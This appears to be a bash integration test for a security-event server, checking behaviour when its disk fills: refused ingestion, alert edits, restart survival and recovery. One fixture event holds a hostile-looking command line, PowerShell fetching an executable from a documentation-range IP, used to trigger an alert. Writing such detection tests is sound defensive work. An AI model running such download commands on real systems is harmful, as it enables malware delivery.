#!/usr/bin/env bash
# A server on a disk that gets full: by its own events, by others, and to the last byte. What was acknowledged stays,
# reading and changing alerts go on, and events are taken again when there is room. Needs root, to mount a small disk.
set -euo pipefail

bartizan=$(realpath "${1:-target/release/bartizan}")
tests=$(realpath "$(dirname "$0")")
. "$tests/server.sh"
. "$tests/serving.sh"

disk="$work/disk"
mkdir "$disk"
if ! mount -t tmpfs -o size=128m tmpfs "$disk" 2>"$work/mount"; then
  echo "SKIPPED: no disk can be mounted here: $(cat "$work/mount")"
  exit 0
fi
at_end() { umount "$disk" || umount -l "$disk"; }

data="$disk/data" config="$work/config.toml"
operator_port=$(( port + 1 ))
reserve=$(( 32 << 20 ))
cat >"$config" <<END
data = '$data'
listen = '127.0.0.1:$port'
operator_listen = '127.0.0.1:$operator_port'
[first_tenant]
display_name = "Example"
domain = "corp.example"
[lake]
flush_seconds = 2
flush_bytes = 8388608
hot_bytes_max = 16777216
upkeep_seconds = 2
grace_seconds = 40
reserve_bytes = $reserve
[hunting]
timeout_seconds = 30
END

free() { df --output=avail -B1 "$disk" | tail -n 1; }
fill_to() { # bytes that are left, file
  local bytes=$(( $(free) - $1 ))
  [ $bytes -le 0 ] || head -c "$bytes" /dev/zero >"$2"
}
until_true() { # seconds, command
  local end=$(( SECONDS + $1 ))
  until "${@:2}"; do [ $SECONDS -lt $end ] || return 1; sleep 0.2; done
}

# Text that cannot be compressed by much, so that the disk gets full.
python3 - "$work/rows" <<'END'
import json, random, sys
words = random.Random(1)
with open(sys.argv[1], "w") as file:
    for number in range(4000):
        row = {"Timestamp": "2026-05-06T10:00:00Z", "DeviceId": f"{number % 7 + 1:040x}", "DeviceName": f"pc{number % 7}.example",
               "ActionType": "ProcessCreated", "FileName": "a.exe", "ProcessCommandLine": f"{words.getrandbits(4000):x}", "ReportId": number}
        file.write(json.dumps(row) + "\n")
END
calls=0 accepted=0
# Sends a call; one that is refused is sent again under the same number.
try_call() {
  status=$(send "$work/rows" $(( calls + 1 )))
  [ "$status" != 200 ] || { calls=$(( calls + 1 )); accepted=$(( accepted + 4000 )); }
}
expect_rows() { local found; found=$(count); [ "$found" = "$accepted" ] || fail "$1: $found of $accepted rows"; }
expect_refused() {
  try_call
  [ "$status" = 503 ] || fail "$1: $status"
  [ "$(jq -r .error.code "$work/answer")" = InsufficientStorage ] || fail "$1: $(cat "$work/answer")"
  grep -qi '^retry-after: 60' "$work/headers" || fail "$1: no Retry-After"
}
accepts() { try_call; [ "$status" = 200 ]; }
change_alert() { # comment
  api "/api/alerts/$alert" -X PATCH -H 'Content-Type: application/json' -d "{\"comment\":\"$1\"}" -o "$work/answer" -w '%{http_code}'
}

serve
token
line='{"Timestamp":"2026-05-06T10:00:00Z","DeviceName":"pc1.example","ActionType":"ProcessCreated","FileName":"powershell.exe","FolderPath":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","ProcessCommandLine":"powershell iwr http://203.0.113.7/a.exe","ReportId":0}'
api /api/ingest/DeviceProcessEvents -d "$line" | jq -e '.accepted == 1' >/dev/null || fail "the first row"
accepted=1
has_alert() { alert=$(api '/api/alerts?$top=1' | jq -r '.value[0].id // empty'); [ -n "$alert" ]; }
until_true 30 has_alert || fail "no alert"

echo "full by its own events"
for _ in $(seq 400); do
  try_call
  [ "$status" = 200 ] && continue
  [ "$status" = 503 ] || fail "ingest: $status $(cat "$work/answer")"
  # Too many at once passes, and a flush makes room: full is what stays.
  sleep 3
  try_call
  [ "$status" = 200 ] || [ "$(jq -r .error.code "$work/answer")" != InsufficientStorage ] || break
done
expect_refused "full"
echo "  $accepted rows, $(free) bytes left"
[ "$(free)" -gt 0 ] || fail "nothing of the reserve is left"
[ "$(metric bartizan_disk_full)" = 1 ] || fail "no metric says so"
[ "$(metric 'bartizan_lake_refused_total{reason="no_space"}')" -gt 0 ] || fail "refusals are not counted"
expect_rows "full"
[ "$(change_alert full)" = 200 ] || fail "an alert cannot be changed: $(cat "$work/answer")"
token

echo "killed and started again while it is full"
# A flush made a bit of room, which a server that knows nothing of the past would use.
fill_to $(( reserve - (4 << 20) )) "$disk/bit"
kill_hard
serve
expect_refused "after a restart"
expect_rows "after a restart"
[ "$(change_alert restarted)" = 200 ] || fail "an alert cannot be changed after a restart"

echo "room comes back"
rm -f "$disk/bit"
mount -o remount,size=256m "$disk"
until_true 10 accepts || fail "not accepted again: $status $(cat "$work/answer")"
expect_rows "with room"
[ "$(metric bartizan_disk_full)" = 0 ] || fail "the metric still says full"

echo "filled by others, to the last byte"
fill_to $(( reserve - (4 << 20) )) "$disk/others"
sleep 0.5
expect_refused "filled by others"
[ "$(change_alert others)" = 200 ] || fail "an alert cannot be changed beside others"
# A flush that is under way may give a bit back.
for _ in 1 2 3; do cat /dev/zero >>"$disk/more" 2>/dev/null || true; sleep 0.5; done
[ "$(free)" -lt $(( 1 << 20 )) ] || fail "there is room left: $(free)"
expect_refused "nothing left"
# A question that cannot be written down is not answered, and says why.
jq -n --arg q 'DeviceProcessEvents | count' '{Query: $q}' |
  api /api/advancedqueries/run -H 'Content-Type: application/json' -d @- -o "$work/answer"
jq -e --argjson rows "$accepted" '.Results[0].Count == $rows or .error.code == "InsufficientStorage"' "$work/answer" >/dev/null ||
  fail "a question with nothing left: $(head -c 300 "$work/answer")"
status=$(change_alert nothing)
[ "$status" = 200 ] || [ "$(jq -r .error.code "$work/answer")" = InsufficientStorage ] || fail "a change of an alert: $status $(cat "$work/answer")"
api '/api/alerts?$top=1' | jq -e '.value | length == 1' >/dev/null || fail "alerts cannot be read"
sleep 5
rm -f "$disk/others" "$disk/more"
until_true 20 accepts || fail "not accepted again: $status $(cat "$work/answer")"
expect_rows "after others"
[ "$(change_alert after)" = 200 ] || fail "an alert cannot be changed after others"
stop
verified=$("$bartizan" lake verify --config "$config" 2>>"$work/log" | tail -n 1)
[ "${verified##*findings }" = 0 ] || fail "verify: $verified"
echo "full disk passed: $accepted rows"
